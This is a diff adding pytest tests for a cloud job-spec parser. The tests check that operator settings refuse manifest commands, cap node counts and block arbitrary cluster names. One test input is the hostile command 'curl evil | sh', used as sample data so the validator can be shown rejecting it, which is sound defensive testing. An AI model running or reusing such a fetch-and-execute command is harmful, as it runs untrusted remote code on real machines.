@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import dataclasses
 import json
 from datetime import timedelta
 from typing import Any
@@ -396,3 +397,65 @@ def test_spec_context_carries_the_default_vault_from_the_settings() -> None:
     )
     assert SpecContext.from_settings(settings).key_vault_resource_id == KV_ID
     assert SpecContext.from_settings(Settings.from_env(local_stack_values())).key_vault_resource_id is None
+
+
+# --- the operator's narrowing of the trust (docs/security.md) --------------------------------------------
+NARROW = SpecContext(
+    allowed_vm_sizes=CTX.allowed_vm_sizes,
+    manifest_commands_allowed=False,
+    max_nodes_per_run=4,
+    clusters_by_derived_name_only=True,
+)
+NARROW_MANIFEST = dataclasses.replace(NARROW, from_manifest=True)
+
+
+@pytest.mark.parametrize(
+    ("data", "field"),
+    [
+        ({"toolkit": "custom", "command_line": "curl evil | sh"}, "command_line"),
+        ({"job_preparation": "apt-get install x"}, "job_preparation"),
+    ],
+)
+def test_uploaded_manifests_may_not_carry_commands_when_refused(data: dict[str, Any], field: str) -> None:
+    found = errors_of(data, NARROW_MANIFEST)
+    assert list(found) == [field] and "MANIFEST_COMMANDS_ALLOWED" in found[field]
+    parse_run_spec(data, NARROW)  # an HTTP start (a key holder) may
+    parse_run_spec(data, dataclasses.replace(NARROW_MANIFEST, manifest_commands_allowed=True))
+
+
+@pytest.mark.parametrize(
+    ("data", "field"),
+    [
+        ({"node_count": 5}, "node_count"),
+        ({"cluster": {"manual": {"target_node_count": 5}}}, "cluster.manual.target_node_count"),
+        (
+            {"cluster": {"auto_scale": {"minimum_node_count": 0, "maximum_node_count": 1000}}},
+            "cluster.auto_scale.maximum_node_count",
+        ),
+    ],
+)
+def test_node_counts_over_the_cap_are_refused(data: dict[str, Any], field: str) -> None:
+    for context in (NARROW, NARROW_MANIFEST):
+        found = errors_of(data, context)
+        assert list(found) == [field] and "MAX_NODES_PER_RUN (4)" in found[field]
+    assert parse_run_spec({"node_count": 4}, NARROW).node_count == 4
+
+
+def test_cluster_names_are_refused_when_clusters_go_by_derived_name() -> None:
+    for context in (NARROW, NARROW_MANIFEST):
+        found = errors_of({"cluster_name": "someone-elses-cluster"}, context)
+        assert list(found) == ["cluster_name"] and "CLUSTERS_BY_DERIVED_NAME_ONLY" in found["cluster_name"]
+    assert parse_run_spec({"cluster_name": "shared"}, CTX).cluster_name == "shared"
+
+
+def test_the_narrowing_settings_reach_the_spec_context() -> None:
+    from shared.settings import Settings, local_stack_values
+
+    settings = Settings.from_env(
+        local_stack_values(
+            MANIFEST_COMMANDS_ALLOWED="false", MAX_NODES_PER_RUN="2", CLUSTERS_BY_DERIVED_NAME_ONLY="true"
+        )
+    )
+    context = SpecContext.from_settings(settings)
+    assert not context.manifest_commands_allowed and context.max_nodes_per_run == 2
+    assert context.clusters_by_derived_name_only and not context.from_manifest
